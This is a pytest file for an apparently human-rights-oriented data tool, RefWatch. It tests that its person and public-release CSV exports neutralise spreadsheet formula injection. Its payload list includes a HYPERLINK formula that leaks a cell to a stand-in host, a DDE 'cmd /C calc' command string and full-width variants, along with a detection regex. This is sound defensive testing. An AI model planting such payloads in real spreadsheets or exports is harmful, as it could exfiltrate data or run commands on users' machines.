"""Formula injection: a source or place called `=HYPERLINK(...)` reaches every CSV RefWatch
writes as text a spreadsheet will not run (OWASP CSV injection; `refwatch.domain.formulas`).

The web's person list CSV, the public release (CSV with HXL rows, through the browser and
`write_csv` directly) and the rule itself. The CLI/library exports are checked in
tests/intake/test_export.py."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest

from refwatch.domain.formulas import neutral_row, neutralise
from refwatch.publish.disclosure import PublicCell, PublicTable
from refwatch.publish.formats import write_csv as write_release_csv
from refwatch.store.crypto import FieldCipher
from tests import figures
from tests.conftest import row
from tests.web.conftest import WebEnv
from tests.web.evidence_helpers import load_rows, post_form

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "+1+1",
    "＝1+1",  # full-width equals sign (U+FF1D)
    "－2+3",  # full-width minus (U+FF0D)
    "＠SUM(A1)",
)
# What a spreadsheet would read as the start of a formula (OWASP's list plus full width).
DANGEROUS = re.compile("^[=+\\-@\t\r\x00\uff1d\uff0b\uff0d\uff20]")
PLAIN_NEGATIVE = re.compile(r"^-[0-9]+(\.[0-9]+)?$")


def unsafe_cells(text: str, *, split_lists: bool = True) -> list[str]:
    """Cells (and `;`-separated parts of cells) a spreadsheet would run as a formula."""
    found = []
    for record in csv.reader(io.StringIO(text)):
        for cell in record:
            parts = cell.split(";") if split_lists else [cell]
            found += [p for p in parts if DANGEROUS.match(p) and not PLAIN_NEGATIVE.match(p)]
    return found


@pytest.mark.parametrize(
    ("given", "written"),
    [
        ('=HYPERLINK("http://evil")', '\'=HYPERLINK("http://evil")'),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+1+1", "'+1+1"),
        ("+4", "'+4"),  # decided: a plus sign is never left in front (phone numbers stay text)
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\x00=1", "'\x00=1"),
        ("＝1+1", "'＝1+1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠A1", "'＠A1"),
        ("-", "'-"),
        ("-1e5", "'-1e5"),  # an exponent is not a plain number
        ("-.5", "'-.5"),
        ("-١٢", "'-١٢"),  # Arabic-Indic digits are not ASCII digits
        ("-12\n", "'-12\n"),
        ("-12", "-12"),
        ("-3.5", "-3.5"),
        ("-0", "-0"),
        ("2017-07", "2017-07"),
        ("Tumen", "Tumen"),
        ("'=already", "'=already"),
        ("", ""),
        (-12, -12),
        (3.5, 3.5),
        (None, None),
    ],
)
def test_the_rule_defuses_every_formula_start_and_keeps_plain_negative_numbers(
    given: object, written: object
) -> None:
    assert neutralise(given) == written


def test_a_neutral_row_writes_none_as_empty_and_leaves_numbers_alone() -> None:
    assert neutral_row([None, -12, "-12", "=1", 0]) == ["", -12, "-12", "'=1", 0]


def _hostile_rows() -> list[dict[str, str]]:
    rows = [
        row(
            source=payload,
            source_type="ngo_list",
            reported_on="2017-08-16",
            record_id=f"H-{n}",
            name_latin=f"Hostile Person {n}",
            sex="F",
            apprehended_on="2017-07-13",
            apprehended_at="Tumen",
            status="detained",
        )
        for n, payload in enumerate(PAYLOADS)
    ]
    # One person on two lists: a plain one and a hostile one (joined with ";" in one cell).
    rows.append(
        row(
            source="Alpha list",
            source_type="ngo_list",
            reported_on="2017-08-16",
            record_id="-12",
            name_latin="Hostile Person 0",
            sex="F",
            apprehended_on="2017-07-13",
            apprehended_at="Tumen",
            status="detained",
        )
    )
    return rows


def test_hostile_source_names_reach_the_person_csv_as_text(
    web: WebEnv, cipher: FieldCipher, tmp_path: Path
) -> None:
    load_rows(web, cipher, tmp_path, _hostile_rows())
    for role in ("analyst", "researcher"):
        answer = web.sign_in(role).get("/persons.csv")
        assert answer.status_code == 200
        assert unsafe_cells(answer.text) == []
        table = list(csv.DictReader(io.StringIO(answer.text)))
        listed = {part for r in table for part in r["sources"].split(";")}
        assert {"'" + p for p in PAYLOADS} <= listed, listed
        assert "Alpha list" in listed
        # Counts stay numbers: no quote was put in front of them.
        assert all(r["mentions"].isdigit() for r in table)
    figures.record(
        "test_hostile_source_names_reach_the_person_csv_as_text", "payloads", len(PAYLOADS)
    )


def test_the_release_csv_writer_defuses_hostile_labels_and_keeps_numbers(tmp_path: Path) -> None:
    cells = {
        (label,): PublicCell((label,), at_least=-12, at_most=7) for label in ("cn-jilin", *PAYLOADS)
    }
    table = PublicTable("by_province", ("province",), cells)
    text = write_release_csv(table, tmp_path / "t.csv").read_text("utf-8")
    lines = list(csv.reader(io.StringIO(text)))
    assert lines[1][0].startswith("#")  # the HXL row is left as it is
    assert unsafe_cells("\n".join(text.splitlines()[2:]), split_lists=False) == []
    body = lines[2:]
    assert {r[0] for r in body} == {"cn-jilin", *("'" + p for p in PAYLOADS)}
    assert all(r[-3:-1] == ["-12", "7"] for r in body)


def test_a_release_made_in_the_browser_has_no_formula_cell_and_its_numbers_intact(
    web: WebEnv, cipher: FieldCipher, tmp_path: Path
) -> None:
    load_rows(web, cipher, tmp_path, _hostile_rows())
    admin = web.sign_in("admin")
    made = post_form(
        admin,
        "/releases",
        {"from": "2017-07-01", "to": "2017-09-30", "threshold": "1", "format": ["csv"]},
    )
    assert made.status_code == 303, made.text[:500]
    zipped = admin.get(made.headers["location"] + ".zip")
    assert zipped.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(zipped.content))
    csvs = [n for n in archive.namelist() if n.endswith(".csv")]
    assert csvs
    numbers = 0
    for name in csvs:
        text = archive.read(name).decode("utf-8")
        assert unsafe_cells(text, split_lists=False) == [], name
        for record in list(csv.DictReader(io.StringIO(text)))[1:]:  # after the HXL row
            for column in ("at_least", "at_most"):
                if record[column]:
                    assert record[column].isdigit(), (name, record)
                    numbers += 1
    assert numbers > 0
